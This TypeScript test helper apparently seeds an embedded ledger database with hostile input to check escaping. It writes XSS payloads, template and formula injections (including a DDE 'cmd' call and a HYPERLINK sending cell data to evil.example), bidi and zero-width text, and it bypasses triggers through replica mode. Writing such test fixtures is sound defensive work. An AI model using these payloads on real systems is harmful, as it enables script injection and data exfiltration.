import { join } from 'node:path';
import { PGlite } from '@electric-sql/pglite';
import { btree_gist } from '@electric-sql/pglite/contrib/btree_gist';
import { pg_trgm } from '@electric-sql/pglite/contrib/pg_trgm';

const run = 'window.pwned=1';

/** What strangers write where a name is asked for. Whatever becomes an element has the class pwned. */
export const markup: readonly string[] = [
  `<script class=pwned>${run}</script>`,
  `"><img class=pwned src=x onerror="${run}">`,
  `<svg class=pwned onload=${run}><script>${run}</script></svg>`,
  `<iframe class=pwned srcdoc="<script>parent.${run}</script>">`,
  `<a class=pwned href="javascript:${run}">点这里</a>`,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `' autofocus onfocus=${run} x='`,
  `</textarea></title><style class=pwned>*{display:none}</style>`,
  '<link class=pwned rel=stylesheet href=//evil.example/a.css>',
  '<form class=pwned action=//evil.example><input name=q>',
  '<math class=pwned><mtext></form><mglyph><style></math>',
  '{{constructor.constructor("window.pwned=1")()}}',
  '$' + '{window.pwned=1}#{7*7}<%= 7*7 %>',
  '%{smart_count} |||| %{_}',
  '**粗** [x](javascript:window.pwned=1)',
  '&lt;img class=pwned&gt;&#0;&amp;',
  '\u202Excod.告报\u202C\u200B\u2066左\u2069',
  '零\u200D宽\uFEFF字\u00AD符',
  `=cmd|'/C calc'!A0`,
  '=HYPERLINK("https://evil.example/?"&A1)',
  '@SUM(1+1)*cmd',
  '+1+1',
  '-2+3',
  '＝1＋1',
  '\t=1+1',
  '\r=1+1',
  '__proto__',
  '𠮷🏮é',
];

/** By these, and not by their texts, records are found and figures are named. */
const codes = ['code', 'key', 'metric', 'unit', 'rules_version'];

interface Column {
  readonly table: string;
  readonly column: string;
}

const textColumns = `
  SELECT c.table_name AS "table", c.column_name AS "column"
  FROM information_schema.columns c
  WHERE c.table_schema = 'public' AND c.data_type = 'text' AND c.column_name <> ALL ($1)
    AND (c.table_name IN (SELECT event_object_table FROM information_schema.triggers WHERE trigger_name = 'ledger_insert')
      OR (c.table_name, c.column_name) IN (('user', 'name'), ('import_batch', 'file_name'), ('import_batch', 'actor_name')))
  ORDER BY 1, 2`;

/** A person is still found by name, and the figures of an account still stand where they stood. */
const kept = (column: Column): string =>
  ['person.name', 'publication.body'].includes(`${column.table}.${column.column}`)
    ? `"${column.column}" || `
    : '';

/** For each row of a table its markup. */
const marked = (table: string): string => `
  SELECT "id", ($1::text[])[1 + (row_number() OVER (ORDER BY "id") + $2) % cardinality($1::text[])]
    || ' ' || row_number() OVER (ORDER BY "id") AS "text" FROM "${table}"`;

const write = ({ table, column }: Column, where: string): string => `
  UPDATE "${table}" t SET "${column}" = ${kept({ table, column })}s."text"
  FROM (${marked(table)}) s WHERE s."id" = t."id" AND ${where}`;

const recordTables = `
  SELECT c.table_name AS "table" FROM information_schema.columns c
  WHERE c.table_schema = 'public' AND c.column_name = 'archive_reason' ORDER BY 1`;

/** What no two records share, archived ones neither. */
const ownTexts = ['code', 'key', 'case_number'];

/** An archived twin of every record that may have one; they stand in no list and count in no figure. */
const archiveTwins = (table: string): string => `
  INSERT INTO "${table}"
  SELECT (jsonb_populate_record(t, jsonb_strip_nulls(jsonb_build_object(
    ${ownTexts.map((column) => `'${column}', 'Z' || (to_jsonb(t) ->> '${column}'),`).join(' ')}
    'id', gen_random_uuid(), 'archived_at', now(), 'archive_reason', '')))).*
  FROM "${table}" t ON CONFLICT DO NOTHING`;

const archiveLast = (table: string): string => `
  UPDATE "${table}" SET "archived_at" = now(), "archive_reason" = ''
  WHERE "id" = (SELECT "id" FROM "${table}" ORDER BY "id" DESC LIMIT 1)`;

/** A file that all records of a table came from, so that each tells its name. */
const importedFrom = (table: string): string => `
  WITH batch AS (
    INSERT INTO "import_batch" ("id", "kind", "file_name", "sha256", "actor_name")
    VALUES (gen_random_uuid(), 'people', '', repeat('0', 64), '') RETURNING "id")
  INSERT INTO "import_row" ("record_id", "import_id", "row")
  SELECT t."id", batch."id", 2 FROM "${table}" t, batch ON CONFLICT DO NOTHING`;

const explained = (table: string): string => `
  UPDATE "${table}" SET "acknowledgements" = jsonb_build_array(jsonb_build_object('code', 'warning', 'reason', s."text"))
  FROM (${marked(table)}) s WHERE s."id" = "${table}"."id"`;

/**
 * Writes markup into every text of every record of an embedded ledger that no process holds, past every rule, into
 * those of archived twins of them, and into the reasons of the changes that this makes in its history.
 *
 * @returns the columns that hold some of it now, and those that the ledger has no value of and takes none for
 */
export async function writeMarkup(
  ledger: string,
): Promise<{ readonly written: readonly string[]; readonly empty: readonly string[] }> {
  const database = new PGlite({ dataDir: join(ledger, 'database'), extensions: { btree_gist, pg_trgm } });
  const { rows: columns } = await database.query<Column>(textColumns, [codes]);
  /** By the rules of the triggers where they allow it, so that it enters the history; else without them. */
  const update = async (sql: string, values: readonly unknown[]): Promise<number> => {
    for (const role of ['origin', 'replica']) {
      try {
        return await database.transaction(async (tx) => {
          await tx.exec(
            `SET LOCAL session_replication_role = ${role}; LOCK TABLE "ledger_turn" IN EXCLUSIVE MODE`,
          );
          await tx.query(
            `SELECT set_config('qinglan.actor', 'command:psql', true), set_config('qinglan.reason', $1, true)`,
            [markup[1]],
          );
          return (await tx.query(sql, [...values])).affectedRows ?? 0;
        });
      } catch (error) {
        if (role === 'replica' && !String(error).includes('constraint')) throw error;
      }
    }
    return 0;
  };
  const { rows: tables } = await database.query<Pick<Column, 'table'>>(recordTables);
  const written: string[] = [];
  const empty: string[] = [];
  for (const [index, { table }] of tables.entries()) {
    const twins = await update(archiveTwins(table), []);
    if (twins === 0) await update(archiveLast(table), []);
    await update(importedFrom(table), []);
    const held = await update(explained(table), [markup, index]);
    (held > 0 ? written : empty).push(`${table}.acknowledgements`);
  }
  for (const [index, column] of columns.entries()) {
    const name = `${column.table}.${column.column}`;
    const values = [markup, index];
    const held = await update(write(column, `t."${column.column}" IS NOT NULL`), values);
    // What belongs to an archived record stays empty: it would make the record an archived one.
    const filled =
      column.column === 'archive_reason'
        ? 0
        : await update(write(column, `t."${column.column}" IS NULL`), values);
    (held + filled > 0 ? written : empty).push(name);
  }
  await database.close();
  return { written, empty };
}
